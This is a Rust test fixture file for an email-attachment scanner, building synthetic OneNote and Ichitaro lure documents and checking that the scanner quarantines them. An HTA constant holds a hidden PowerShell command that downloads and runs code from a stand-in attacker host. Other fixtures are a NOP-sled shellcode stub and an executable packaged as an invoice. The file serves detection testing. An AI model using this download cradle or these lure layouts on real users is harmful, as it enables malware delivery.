//! Fixtures for the OneNote and Ichitaro rules: a synthetic OneNote section with a
//! FileDataStoreObject, and a compound file laid out like an Ichitaro document.

use super::Fixture;
use super::archives::mail;
use lurescreen::{Config, Engine, Signatures, Verdict};
use std::io::{Cursor, Write};

const ONENOTE_GUID: [u8; 16] = [
    0xE4, 0x52, 0x5C, 0x7B, 0x8C, 0xD8, 0xA7, 0x4D, 0xAE, 0xB1, 0x53, 0x78, 0xD0, 0x29, 0x96, 0xD3,
];
const FILE_DATA_GUID: [u8; 16] = [
    0xE7, 0x16, 0xE3, 0xBD, 0x65, 0x26, 0x11, 0x45, 0xA4, 0xC4, 0x8D, 0x4D, 0x0B, 0x7A, 0x9E, 0xAC,
];

const HTA: &[u8] = b"<html><head><HTA:APPLICATION id=\"a\"></head><script language=\"VBScript\">\n\
Set s = CreateObject(\"WScript.Shell\") : s.Run \"powershell -w hidden -c iex(iwr https://evil.example/p)\"\n\
</script></html>";

/// A OneNote section with a name property for each file and the files in FileDataStoreObjects.
pub fn onenote(files: &[(&str, &[u8])]) -> Vec<u8> {
    let mut out = ONENOTE_GUID.to_vec();
    out.resize(0x400, 0);
    for (name, _) in files {
        let text: Vec<u8> = name.encode_utf16().flat_map(u16::to_le_bytes).collect();
        out.extend((text.len() as u32).to_le_bytes());
        out.extend(text);
    }
    for (_, data) in files {
        out.extend(FILE_DATA_GUID);
        out.extend((data.len() as u64).to_le_bytes());
        out.extend([0u8; 12]);
        out.extend_from_slice(data);
        while !out.len().is_multiple_of(8) {
            out.push(0);
        }
    }
    out
}

/// A compound file with these streams (storages made as needed).
pub fn compound(streams: &[(&str, &[u8])]) -> Vec<u8> {
    let mut cf = cfb::CompoundFile::create(Cursor::new(Vec::new())).unwrap();
    for (path, data) in streams {
        if let Some((dir, _)) = path.rsplit_once('/') {
            cf.create_storage_all(dir).unwrap();
        }
        cf.create_stream(path).unwrap().write_all(data).unwrap();
    }
    cf.flush().unwrap();
    cf.into_inner().into_inner()
}

fn pe_stub() -> Vec<u8> {
    let mut d = vec![0u8; 0x100];
    d[..2].copy_from_slice(b"MZ");
    d[0x3C] = 0x80;
    d[0x80..0x84].copy_from_slice(b"PE\0\0");
    d[0x84..0x86].copy_from_slice(&0x14Cu16.to_le_bytes());
    d
}

/// An Ole10Native package stream holding `data` as `name`.
fn package(name: &str, data: &[u8]) -> Vec<u8> {
    let mut body = vec![2, 0];
    for s in [name.to_string(), format!("C:\\{name}")] {
        body.extend(s.as_bytes());
        body.push(0);
    }
    body.extend([0, 0, 3, 0]);
    let temp = format!("C:\\Temp\\{name}\0");
    body.extend((temp.len() as u32).to_le_bytes());
    body.extend(temp.as_bytes());
    body.extend((data.len() as u32).to_le_bytes());
    body.extend(data);
    let mut out = (body.len() as u32).to_le_bytes().to_vec();
    out.extend(body);
    out
}

fn ichitaro_text() -> Vec<u8> {
    "一太郎の本文".repeat(50).into_bytes()
}

pub fn fixtures() -> Vec<Fixture> {
    let d = Config::default;
    let mut shellcode = vec![0x90u8; 64];
    shellcode.extend(pe_stub());
    vec![
        (
            "ATTACH_ONENOTE_EMBEDDED_FILE",
            d(),
            mail(
                "meeting notes",
                &[("notes.one", &onenote(&[("open.hta", HTA)]))],
            ),
        ),
        (
            "ATTACH_ICHITARO_EXECUTABLE",
            d(),
            mail(
                "資料",
                &[(
                    "資料.jtd",
                    &compound(&[
                        ("DocumentText", &ichitaro_text()),
                        ("JSRV_SegmentInfo", b"\x01\x00"),
                        ("JSRV_Data", &shellcode),
                    ]),
                )],
            ),
        ),
        (
            "ATTACH_ICHITARO_OBJECT",
            d(),
            mail(
                "資料",
                &[(
                    "資料.jtd",
                    &compound(&[
                        ("DocumentText", &ichitaro_text()),
                        (
                            "Obj1/\u{1}Ole10Native",
                            &package("chart.csv", b"a,b\n1,2\n"),
                        ),
                    ]),
                )],
            ),
        ),
    ]
}

fn scan(raw: &[u8]) -> lurescreen::Report {
    Engine::new(Config::default(), Signatures::embedded().unwrap())
        .scan(raw)
        .unwrap()
}

#[test]
fn the_script_in_a_onenote_lure_is_named_and_flagged() {
    let png = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x01\0\0\0\x01\x08\x02\0\0\0";
    // Renamed so that the name checks do not decide alone.
    let raw = mail(
        "notes",
        &[(
            "minutes.pdf",
            &onenote(&[("button.png", png), ("open.hta", HTA)]),
        )],
    );
    let r = scan(&raw);
    assert_eq!(r.verdict, Verdict::Quarantine);
    let script = r
        .findings
        .iter()
        .find(|f| f.rule == "EXE_SCRIPT")
        .expect("the embedded HTA");
    assert_eq!(script.location, "2/minutes.pdf!/open.hta");
    assert!(
        r.findings
            .iter()
            .any(|f| f.rule == "ATTACH_DANGEROUS_EXTENSION" && f.location.ends_with("open.hta"))
    );
}

#[test]
fn a_plain_ichitaro_document_is_clean_and_a_packaged_program_is_not() {
    let plain = compound(&[
        ("DocumentText", &ichitaro_text()),
        ("JSRV_SegmentInfo", b"\x01"),
    ]);
    let r = scan(&mail("資料", &[("議事録.jtd", &plain)]));
    assert_eq!(r.verdict, Verdict::Clean, "{:?}", r.findings);
    let packaged = compound(&[
        ("DocumentText", &ichitaro_text()),
        ("Obj1/\u{1}Ole10Native", &package("請求書.exe", &pe_stub())),
    ]);
    let r = scan(&mail("資料", &[("資料.jtd", &packaged)]));
    assert_eq!(r.verdict, Verdict::Quarantine);
    let exe = r.findings.iter().find(|f| f.rule == "EXE_PROGRAM").unwrap();
    assert_eq!(exe.location, "2/資料.jtd!/請求書.exe");
}
